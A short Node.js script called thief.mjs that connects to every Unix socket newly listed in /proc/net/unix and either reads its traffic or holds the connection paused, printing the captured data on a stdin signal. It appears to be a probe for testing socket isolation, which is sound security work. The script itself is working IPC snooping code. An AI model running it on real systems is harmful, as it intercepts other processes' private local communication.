// node thief.mjs read|mute: connects to every Unix socket that has appeared in /proc/net/unix since it began, as often as it is
// listed, and reads from it or, with `mute`, does not. It prints "looking" and, after a line on stdin, everything that it has read.
import { readFileSync } from 'node:fs';
import { connect } from 'node:net';

const isMute = process.argv[2] === 'mute';
const MOST_TRIES = 20_000;
const MOST_BYTES = 2 ** 24;
const names = () =>
  readFileSync('/proc/net/unix', 'utf8')
    .split('\n')
    .flatMap((line) => line.split(/ +/).slice(7, 8));
const before = new Set(names());
let tries = 0;
let read = '';

function look() {
  for (const name of names()) {
    if (before.has(name) || name === '' || tries++ > MOST_TRIES) continue;
    const socket = connect(name.startsWith('@') ? `\0${name.slice(1)}` : name);
    socket.on('error', () => {});
    if (isMute) socket.pause();
    else
      socket.on('data', (chunk) => {
        if (read.length < MOST_BYTES) read += chunk;
      });
  }
  setImmediate(look);
}

look();
console.log('looking');
process.stdin.once('data', () => process.stdout.write(read, () => process.exit()));
